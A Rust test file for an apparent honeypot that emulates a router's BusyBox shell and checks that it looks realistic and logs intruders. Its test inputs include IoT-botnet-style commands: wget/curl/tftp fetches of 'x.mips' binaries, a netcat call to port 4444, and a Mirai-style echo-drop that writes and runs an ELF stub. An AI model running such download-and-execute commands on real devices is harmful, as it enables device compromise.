//! Tests for the tells of issue 18: each would fail if the shell gave itself away again.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::expect_used,
    clippy::panic
)]

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use super::overlay::sha256_hex;
use super::test_support::{root, run};
use super::time::now;
use super::{Persona, Shell};

fn persona() -> Arc<Persona> {
    Arc::new(Persona {
        hostname: "gw-7".into(),
        mac: [0x00, 0x1a, 0x2b, 0x3c, 0x4d, 0x50],
        wan_ip: Ipv4Addr::new(203, 0, 113, 77),
        serial: "MT7621A1234567".into(),
        boot_time: now() - 200_000,
        model: "AC1200 Dual Band Router".into(),
        soc: "MT7621A".into(),
        firmware_date: "2018-06-01 09:00:00 CST".into(),
        ssh_banner: "SSH-2.0-dropbear_2017.75".into(),
        http_server: "lighttpd/1.4.45".into(),
    })
}

fn total_wait(out: &super::ShellOutput) -> Duration {
    out.pauses.iter().map(|p| p.wait).sum()
}

#[test]
fn the_persona_is_shown_everywhere() {
    let mut sh = Shell::with_persona("root", persona());
    assert_eq!(run(&mut sh, "hostname; uname -n"), "gw-7\r\ngw-7\r\n");
    assert_eq!(run(&mut sh, "cat /etc/hostname"), "gw-7\r\n");
    assert_eq!(
        run(&mut sh, "cat /etc/issue"),
        "AC1200 Dual Band Router\r\n"
    );
    let ifconfig = run(&mut sh, "ifconfig");
    assert!(ifconfig.contains("HWaddr 00:1A:2B:3C:4D:50"), "{ifconfig}");
    assert!(ifconfig.contains("HWaddr 00:1A:2B:3C:4D:51"));
    assert!(ifconfig.contains("inet addr:203.0.113.77  Bcast:203.0.127.255  Mask:255.255.240.0"));
    assert!(!ifconfig.contains("100.72."));
    let ip = run(&mut sh, "ip addr; ip route; route -n");
    assert!(ip.contains("link/ether 00:1a:2b:3c:4d:51"));
    assert!(ip.contains("inet 203.0.113.77/20 brd 203.0.127.255"));
    assert!(ip.contains("default via 203.0.112.1 dev eth0.2"));
    assert!(ip.contains("203.0.112.0/20 dev eth0.2"));
    assert!(ip.contains("0.0.0.0         203.0.112.1     0.0.0.0         UG"));
    assert!(run(&mut sh, "cat /proc/cpuinfo").starts_with("system type\t\t: MT7621A\r\n"));
    let ps = run(&mut sh, "ps");
    assert!(
        ps.contains(" lighttpd\r\n") && !ps.contains("goahead"),
        "{ps}"
    );
    assert!(run(&mut sh, "busybox").starts_with("BusyBox v1.24.1 (2018-06-01 09:00:00 CST)"));
    assert!(
        sh.banner()
            .contains("BusyBox v1.24.1 (2018-06-01 09:00:00 CST) built-in shell")
    );
    assert_eq!(
        run(&mut sh, "uname -v"),
        "#1 SMP PREEMPT Fri Jun 1 08:53:34 CST 2018\r\n"
    );
    assert!(run(&mut sh, "cat /proc/version").contains("Fri Jun 1 08:53:34 CST 2018"));
    let ls = run(&mut sh, "ls -l /bin/busybox");
    assert!(ls.contains(" Jun  1  2018 /bin/busybox"), "{ls}");
    assert!(run(&mut sh, "cat /etc/init.d/rcS").contains("lighttpd &"));
    assert_eq!(run(&mut sh, "ls /var/run"), "lighttpd.pid  udhcpc.pid\r\n");
    assert_eq!(run(&mut sh, "cat /var/run/lighttpd.pid"), "402\r\n");
    assert!(run(&mut sh, "ls /bin").contains("lighttpd"));
    assert!(!run(&mut sh, "ls /bin").contains("goahead"));
    assert_eq!(
        run(&mut sh, "ls /var/run/goahead.pid"),
        "ls: /var/run/goahead.pid: No such file or directory\r\n"
    );
    // The default persona: a 2021 firmware's lighttpd.
    let mut plain = root();
    assert!(run(&mut plain, "ps").contains(" lighttpd"));
    assert_eq!(run(&mut plain, "uname -n"), "router\r\n");
}

#[test]
fn sleep_sleeps_and_is_bounded() {
    let mut sh = root();
    let out = sh.run_line("sleep 3");
    assert_eq!(total_wait(&out), Duration::from_secs(3));
    assert_eq!(out.pauses[0].at, 0);
    let out = sh.run_line("echo a; sleep 1; echo b");
    assert_eq!(out.text, b"a\r\nb\r\n");
    assert_eq!(out.pauses.len(), 1);
    assert_eq!(out.pauses[0].at, 3);
    assert_eq!(out.segments()[0].0, b"a\r\n");
    assert_eq!(
        total_wait(&sh.run_line("sleep 1m; sleep 100")),
        Duration::from_secs(60)
    );
    assert_eq!(
        total_wait(&sh.run_line("sleep 0.5")),
        Duration::from_millis(500)
    );
    assert_eq!(run(&mut sh, "sleep x"), "sleep: invalid number 'x'\r\n");
    assert_eq!(
        total_wait(&sh.run_line("sleep 2 > /dev/null")),
        Duration::from_secs(2)
    );
    assert_eq!(
        total_wait(&sh.run_line("sleep 2 | cat")),
        Duration::from_secs(2)
    );
}

#[test]
fn network_commands_take_time_and_downloads_are_recorded() {
    let mut sh = root();
    let out = sh.run_line(
        "cd /tmp; wget http://203.0.113.9/bins/x.mips -O x; curl -O http://198.51.100.7/y",
    );
    assert!(
        total_wait(&out) >= Duration::from_secs(10),
        "{:?}",
        out.pauses
    );
    // wget prints where it connects at once, then waits.
    assert_eq!(
        out.segments()[0].0,
        b"Connecting to 203.0.113.9 (203.0.113.9:80)\r\n"
    );
    let urls: Vec<(&str, &str)> = out
        .downloads
        .iter()
        .map(|d| (d.command.as_str(), d.url.as_str()))
        .collect();
    assert_eq!(
        urls,
        [
            ("wget", "http://203.0.113.9/bins/x.mips"),
            ("curl", "http://198.51.100.7/y")
        ]
    );
    let out = sh.run_line("tftp -g -r mips 198.51.100.7; ftpget -v 198.51.100.7 a.sh /pub/a.sh");
    let urls: Vec<&str> = out.downloads.iter().map(|d| d.url.as_str()).collect();
    assert_eq!(
        urls,
        ["tftp://198.51.100.7/mips", "ftp://198.51.100.7/pub/a.sh"]
    );
    let ping = sh.run_line("ping -c 3 8.8.8.8");
    let text = String::from_utf8_lossy(&ping.text).into_owned();
    assert!(text.starts_with(
        "PING 8.8.8.8 (8.8.8.8): 56 data bytes\r\n64 bytes from 8.8.8.8: seq=0 ttl=52 time="
    ));
    assert!(text.contains("3 packets transmitted, 3 packets received, 0% packet loss"));
    assert_eq!(ping.pauses.len(), 2);
    assert_eq!(total_wait(&ping), Duration::from_secs(2));
    let nc = sh.run_line("nc 198.51.100.7 4444");
    assert!(total_wait(&nc) >= Duration::from_secs(5));
    assert_eq!(
        nc.text,
        b"nc: can't connect to remote host (198.51.100.7): Connection timed out\r\n"
    );
    assert!(total_wait(&sh.run_line("ping evil.example")) > Duration::ZERO);
}

#[test]
fn the_clock_moves_and_agrees_with_itself() {
    let mut sh = Shell::with_persona("root", persona());
    let up: f64 = run(&mut sh, "cat /proc/uptime")
        .split(' ')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert!((200_000.0..200_010.0).contains(&up), "{up}");
    let uptime = run(&mut sh, "uptime");
    // 200,000 s is 2 days, 7:33.
    assert!(
        uptime.contains(" up 2 days,  7:33,  load average: "),
        "{uptime}"
    );
    let load = run(&mut sh, "cat /proc/loadavg");
    let first: Vec<&str> = load.split(' ').take(3).collect();
    assert!(
        uptime.trim_end().ends_with(&first.join(", ")),
        "{uptime} / {load}"
    );
    let dates = run(&mut sh, "date +%s; sleep 2; date +%s");
    let secs: Vec<u64> = dates.lines().map(|l| l.parse().unwrap()).collect();
    assert_eq!(secs[1] - secs[0], 2);
    let dmesg = run(&mut sh, "dmesg");
    assert!(dmesg.starts_with("[    0.000000] Linux version 3.10.14"));
    assert!(dmesg.contains("SoC Type: MediaTek MT7621A"));
    assert!(dmesg.contains("br0: HWaddr 00:1a:2b:3c:4d:50"));
}

#[test]
fn proc_self_answers_as_busybox() {
    let mut sh = root();
    let exe = sh.run_line("cat /proc/self/exe").text;
    assert!(exe.starts_with(b"\x7fELF\x01\x01\x01"));
    assert_eq!(run(&mut sh, "readlink /proc/self/exe"), "/bin/busybox\r\n");
    assert_eq!(run(&mut sh, "ls /proc/self/fd"), "0   1   10  2\r\n");
    assert!(run(&mut sh, "ls -l /proc/self/fd").contains(" 0 -> /dev/pts/0\r\n"));
    assert!(run(&mut sh, "cat /proc/self/status").starts_with("Name:\tsh\r\n"));
    assert!(run(&mut sh, "cat /proc/self/maps").contains("/bin/busybox"));
    assert_eq!(run(&mut sh, "cat /proc/self/cmdline"), "-sh\0");
    assert!(run(&mut sh, "cat /proc/meminfo").starts_with("MemTotal:"));
    assert_eq!(run(&mut sh, "cd /proc/self/fd; pwd"), "/proc/self/fd\r\n");
}

#[test]
fn the_overlay_is_writable() {
    let mut sh = root();
    assert_eq!(run(&mut sh, "touch /tmp/x; ls /tmp"), "dhcp.leases  x\r\n");
    run(&mut sh, "echo hello > /tmp/x; echo there >> /tmp/x");
    assert!(
        run(&mut sh, "ls -l /tmp/x").starts_with("-rw-r--r--    1 root     root            12 ")
    );
    run(&mut sh, "chmod +x /tmp/x");
    assert!(run(&mut sh, "ls -l /tmp/x").starts_with("-rwxrwxrwx"));
    assert_eq!(
        run(&mut sh, "cp /tmp/x /var/y; mv /var/y /root/z; cat ~/z"),
        "hello\r\nthere\r\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "echo a > /dev/shm/q; cat /dev/shm/q /home/../tmp/x | wc -l"
        ),
        "3\r\n"
    );
    assert_eq!(
        run(&mut sh, "echo a > /proc/q"),
        "-sh: can't create /proc/q: Read-only file system\r\n"
    );
}

/// The bytes of a small ARM ELF, as a Mirai loader drops it.
const DROPPED: &[u8] = b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x28\x00\
\x01\x00\x00\x00\x54\x80\x00\x00\x34\x00\x00\x00(\x0a\xff\xfe\x00\x01\x02\x5c\x27\x22";

fn echo_chunks(data: &[u8], octal: bool) -> Vec<String> {
    data.chunks(16)
        .map(|chunk| {
            let body: String = chunk
                .iter()
                .map(|b| {
                    if octal {
                        format!("\\0{b:o}")
                    } else {
                        format!("\\x{b:02x}")
                    }
                })
                .collect();
            format!("echo -ne '{body}' >> /tmp/.d")
        })
        .collect()
}

#[test]
fn an_echo_drop_is_reassembled_and_reported_once() {
    for octal in [false, true] {
        let mut sh = root();
        let mut reported = Vec::new();
        sh.run_line("cd /tmp; >/tmp/.d");
        if octal {
            // printf's octal form builds the same bytes.
            run(&mut sh, "printf '\\177ELF\\001' > /tmp/pf");
            assert_eq!(sh.read("/tmp/pf").unwrap(), b"\x7fELF\x01");
        }
        for line in echo_chunks(DROPPED, octal) {
            let out = sh.run_line(&line);
            assert!(out.text.is_empty());
            reported.extend(out.files);
        }
        assert!(reported.is_empty(), "never once per chunk");
        assert_eq!(sh.read("/tmp/.d").unwrap(), DROPPED);
        let out = sh.run_line("chmod 777 .d; ./.d; ./.d");
        assert_eq!(out.files.len(), 1, "once per content");
        let file = &out.files[0];
        assert_eq!(file.path, "/tmp/.d");
        assert_eq!(file.size, DROPPED.len() as u64);
        assert_eq!(file.sha256, sha256_hex(DROPPED));
        // Worked out apart from the shell (Python's hashlib).
        assert_eq!(
            file.sha256,
            "dcaf4f6bfd5e8b24bc98591cbe753df4f1c3d368d10c622ed403cca42468b074"
        );
        assert_eq!(file.data, DROPPED);
        assert!(!file.truncated);
        assert_eq!(file.via, "redirect");
        // ENOEXEC: ash runs it as a script, which stops at the first metacharacter.
        assert_eq!(
            out.text,
            b"./.d: line 1: syntax error: unexpected \"(\"\r\n./.d: line 1: syntax error: unexpected \"(\"\r\n"
        );
        assert!(
            sh.finish().iter().all(|f| f.path != "/tmp/.d"),
            "already reported"
        );
    }
    // Mirai's way: copy busybox for an executable file, empty it, fill it, run it. The copy
    // of the firmware's busybox is not reported, the dropped bytes are.
    let mut sh = root();
    let mut lines = vec!["cd /tmp; cp /bin/busybox .x; >.x; chmod 777 .x".to_string()];
    lines.extend(
        echo_chunks(DROPPED, false)
            .iter()
            .map(|l| l.replace(".d", ".x")),
    );
    lines.push("./.x; rm .x".into());
    let files: Vec<_> = lines.iter().flat_map(|l| sh.run_line(l).files).collect();
    assert_eq!(files.len(), 1, "{files:?}");
    assert_eq!(files[0].sha256, sha256_hex(DROPPED));
    assert_eq!(files[0].path, "/tmp/.x");
    assert!(sh.finish().is_empty());
    let mut sh = root();
    assert_eq!(run(&mut sh, "echo hi | tee /tmp/t"), "hi\r\n");
    assert_eq!(sh.finish()[0].via, "tee");
    let mut sh = root();
    run(&mut sh, "printf 'abc' > /tmp/p; echo def >> /tmp/p");
    let left = sh.finish();
    assert_eq!(left.len(), 1);
    assert_eq!(left[0].sha256, sha256_hex(b"abcdef\n"));
}

#[test]
fn errors_are_worded_per_applet() {
    let mut sh = root();
    let lines = [
        ("ls /x", "ls: /x: No such file or directory\r\n"),
        (
            "cd /x",
            "-sh: cd: can't cd to /x: No such file or directory\r\n",
        ),
        (
            "rm /x",
            "rm: can't remove '/x': No such file or directory\r\n",
        ),
        (
            "cat /x",
            "cat: can't open '/x': No such file or directory\r\n",
        ),
        ("chmod 777 /x", "chmod: /x: No such file or directory\r\n"),
        (
            "mkdir /x",
            "mkdir: can't create directory '/x': Read-only file system\r\n",
        ),
        (
            "wget http://x.example/a",
            "wget: bad address 'x.example'\r\n",
        ),
        ("nosuch", "-sh: nosuch: not found\r\n"),
    ];
    let mut seen = std::collections::BTreeSet::new();
    for (line, want) in lines {
        assert_eq!(run(&mut sh, line), want, "{line}");
        seen.insert(want.split(' ').next().unwrap().to_string());
    }
    assert!(seen.len() >= 7);
}

#[test]
fn command_substitution_runs_the_command() {
    let mut sh = root();
    assert_eq!(
        run(&mut sh, "echo `id`"),
        "uid=0(root) gid=0(root) groups=0(root)\r\n"
    );
    assert_eq!(run(&mut sh, "echo $(uname)"), "Linux\r\n");
    assert_eq!(
        run(&mut sh, "echo \"[$(uname -s; uname -m)]\""),
        "[Linux\r\nmips]\r\n"
    );
    assert_eq!(run(&mut sh, "echo $(echo $(echo deep))"), "deep\r\n");
    assert_eq!(
        run(&mut sh, "A=$(whoami); echo $A; echo `echo \\`whoami\\``"),
        "root\r\nroot\r\n"
    );
    assert_eq!(run(&mut sh, "echo '$(uname)'"), "$(uname)\r\n");
    assert_eq!(run(&mut sh, "cd $(echo /tmp); pwd"), "/tmp\r\n");
    let header = sh
        .run_line("dd bs=52 count=1 if=/bin/echo 2>/dev/null")
        .text;
    assert_eq!(header.len(), 52);
    assert!(header.starts_with(b"\x7fELF"));
    assert_eq!(
        run(
            &mut sh,
            "dd if=/bin/echo of=/tmp/h bs=20 count=2; wc -c /tmp/h"
        ),
        "2+0 records in\r\n2+0 records out\r\n     40 /tmp/h\r\n"
    );
    let out = sh.run_line("echo $(sleep 2; echo x)");
    assert_eq!(out.text, b"x\r\n");
    assert_eq!(total_wait(&out), Duration::from_secs(2));
    assert_eq!(
        sh.run_line("echo $(uname; id)").commands,
        [b"echo $(uname; id)".to_vec()]
    );
}

#[test]
fn loops_conditions_and_groups() {
    let mut sh = root();
    assert_eq!(
        run(&mut sh, "for i in a b c; do echo $i; done"),
        "a\r\nb\r\nc\r\n"
    );
    assert_eq!(
        run(&mut sh, "for f in /var/run/*.pid; do cat $f; done"),
        "402\r\n415\r\n"
    );
    run(&mut sh, "printf 'one\\ntwo 2\\n' > /tmp/l");
    assert_eq!(
        run(
            &mut sh,
            "while read a b; do echo \"<$a|$b>\"; done < /tmp/l"
        ),
        "<one|>\r\n<two|2>\r\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "cat /tmp/l | while read line; do echo x$line; done | wc -l"
        ),
        "2\r\n"
    );
    assert_eq!(
        run(&mut sh, "read x y <<< 'hi there you'; echo $y"),
        "there you\r\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "if [ -f /etc/passwd ]; then echo yes; else echo no; fi"
        ),
        "yes\r\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "if test -d /nope; then echo a; elif [ 1 -lt 2 ]; then echo b; fi"
        ),
        "b\r\n"
    );
    assert_eq!(
        run(&mut sh, "{ echo a; echo b; } > /tmp/g; cat /tmp/g"),
        "a\r\nb\r\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "n=0; until [ $n = 3 ]; do n=$n$n; echo $n; [ ${#n} ]; n=3; done"
        ),
        "00\r\n"
    );
    assert_eq!(run(&mut sh, "cat <<< 'here string'"), "here string\r\n");
    assert_eq!(
        run(
            &mut sh,
            "for i in 1 2 3; do [ $i = 2 ] && continue; echo $i; done"
        ),
        "1\r\n3\r\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "while true; do for i in a b; do echo $i; break 2; done; done; echo out"
        ),
        "a\r\nout\r\n"
    );
    assert_eq!(
        run(&mut sh, "done"),
        "-sh: syntax error: unexpected \"done\"\r\n"
    );
    assert_eq!(
        run(&mut sh, "while true; do echo x"),
        "-sh: syntax error: unexpected end of file (expecting \"done\")\r\n"
    );
    // Bounded: these end, their output capped.
    let out = sh.run_line("while true; do echo spam; done");
    assert!(out.text.len() <= super::MAX_OUTPUT && !out.text.is_empty());
    let out = sh.run_line("while :; do sleep 1; done");
    assert_eq!(total_wait(&out), Duration::from_secs(60));
    let out = sh.run_line("while true; do while true; do :; done; done; echo end");
    assert!(out.text.len() <= super::MAX_OUTPUT);
    let nested = format!("{}{}", "while do ".repeat(15), "done ".repeat(15));
    let started = std::time::Instant::now();
    let _ = sh.run_line(
        &nested
            .replace("do done", "do\ndone")
            .replace("done ", "done\n"),
    );
    let _ = sh.run_line("while do while do while do done; done; done");
    assert!(started.elapsed() < Duration::from_secs(5));
}

#[test]
fn random_grammar_never_panics_or_hangs() {
    const WORDS: [&str; 22] = [
        "while ",
        "until ",
        "do ",
        "done ",
        "for x in a b ",
        "if ",
        "then ",
        "else ",
        "elif ",
        "fi ",
        "{ ",
        "} ",
        "$(",
        "`",
        ") ",
        "; ",
        "&& ",
        "| ",
        "echo x ",
        "read a ",
        "<<< y ",
        "true ",
    ];
    let mut sh = root();
    let mut x: u32 = 99;
    let started = std::time::Instant::now();
    for _ in 0..2000 {
        let line: String = (0..24)
            .map(|_| {
                x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
                WORDS[(x >> 16) as usize % WORDS.len()]
            })
            .collect();
        let out = sh.run_line(&line);
        assert!(out.text.len() <= super::MAX_OUTPUT);
        assert!(total_wait(&out) <= Duration::from_secs(60));
    }
    assert!(started.elapsed() < Duration::from_secs(60));
}

#[test]
fn a_shell_stays_small_until_used() {
    // The struct itself (boxed in the front door's state); its maps and lists allocate only
    // when the session writes or sets something.
    let size = std::mem::size_of::<Shell>();
    println!("size_of::<Shell>() = {size}");
    assert!(size <= 512, "{size}");
    let sh = root();
    assert!(sh.files.is_empty() && sh.vars.is_empty() && sh.seen.capacity() == 0);
    assert_eq!(sh.found_files.capacity() + sh.found_downloads.capacity(), 0);
}
